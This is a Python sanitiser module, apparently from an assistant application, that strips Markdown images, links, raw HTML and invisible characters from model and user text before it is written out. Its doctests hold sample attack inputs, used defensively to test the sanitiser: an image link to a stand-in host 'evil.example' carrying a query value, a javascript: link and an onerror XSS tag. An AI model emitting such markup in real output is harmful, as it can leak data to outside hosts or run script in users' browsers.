"""One sanitiser for all text that came from a model, an upload or a user and is written out: the Markdown file,
the .docx and the app (which escapes on top of it, see markdown.md_text).

What it guarantees for every piece of text it returns:
- no Markdown image or link (inline, reference or autolink) and no link reference definition survives: an image is
  replaced by its alt text, a link by its text — so opening the file never fetches anything from any host and
  nothing can be clicked to a `javascript:`, `data:` or `file:` target (bare URLs stay as visible text);
- no raw HTML: tags and comments are removed, their text content stays;
- no control, format, bidi-override or zero-width characters (tab and line break stay).
It removes markup instead of escaping it, so the Markdown file still reads naturally in a text editor.
"""

from __future__ import annotations

import re

from assistant.domain.text import drop_invisible

_IMAGE = re.compile(r"!\[((?:[^\[\]]|\[[^\[\]]*\])*)\]\s*(?:\([^()]*(?:\([^()]*\)[^()]*)*\)|\[[^\[\]]*\])?")
# Only inline links need removing: reference links cannot resolve once every definition is neutralised.
_LINK = re.compile(r"\[((?:[^\[\]]|\[[^\[\]]*\])*)\]\s*\([^()]*(?:\([^()]*\)[^()]*)*\)")
_DEFINITION = re.compile(r"^([ \t]{0,3}\[[^\[\]]+\]):", re.MULTILINE)
_AUTOLINK = re.compile(r"<((?:[A-Za-z][A-Za-z0-9+.\-]{1,31}:|www\.)[^<>\s]*|[^<>\s@]+@[^<>\s@]+)>")
_HTML_COMMENT = re.compile(r"<!--.*?(?:-->|$)", re.DOTALL)
# CommonMark's raw HTML: an open tag with well-formed attributes, a closing tag, a declaration or an instruction.
_ATTRIBUTE = r"""\s+[A-Za-z_:][\w.:\-]*(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s"'=<>`]+))?"""
_HTML_TAG = re.compile(rf"<[A-Za-z][A-Za-z0-9\-]*(?:{_ATTRIBUTE})*\s*/?>|</[A-Za-z][A-Za-z0-9\-]*\s*>|<![A-Za-z][^<>]*>|<\?.*?\?>",
                       re.DOTALL)


def clean_chars(text: str) -> str:
    """Text without control, format, bidi or zero-width characters (tabs and line breaks stay).

    >>> clean_chars("江城\u202e中学\u200b工会\x07")
    '江城中学工会'
    """
    return drop_invisible(text)


def _link_text(match: re.Match) -> str:
    return match.group(1)


def strip_markup(text: str) -> str:
    """Markdown images, links, autolinks, link definitions and raw HTML removed; the words they carried kept.

    >>> strip_markup('见![统计](http://evil.example/c?d=1)和[说明](javascript:alert(1))<img src=x onerror=alert(1)>。[1]')
    '见统计和说明。[1]'
    """
    previous = None
    while previous != text:  # nested constructs ([![a](b)](c)) come apart one layer per pass
        previous = text
        text = _HTML_COMMENT.sub("", text)
        text = _HTML_TAG.sub("", text)
        text = _AUTOLINK.sub(lambda m: m.group(1), text)
        text = _IMAGE.sub(lambda m: m.group(1), text)
        text = _LINK.sub(_link_text, text)
    return _DEFINITION.sub(r"\1：", text)


def sanitize(text: str) -> str:
    """Everything above: what may be written to the Markdown file, the .docx or shown in the app."""
    return strip_markup(clean_chars(text))


def unsafe_markup(text: str) -> list[str]:
    """The pieces of text the sanitiser would remove as markup (images, links, HTML), for reporting.

    >>> unsafe_markup("正文![x](http://a.example/p.png)")
    ['![x](http://a.example/p.png)']
    """
    found: list[str] = []
    for pattern in (_HTML_COMMENT, _HTML_TAG, _AUTOLINK, _IMAGE, _DEFINITION):
        found.extend(m.group(0) for m in pattern.finditer(text))
    found.extend(m.group(0) for m in _LINK.finditer(_IMAGE.sub("", text)))
    return found
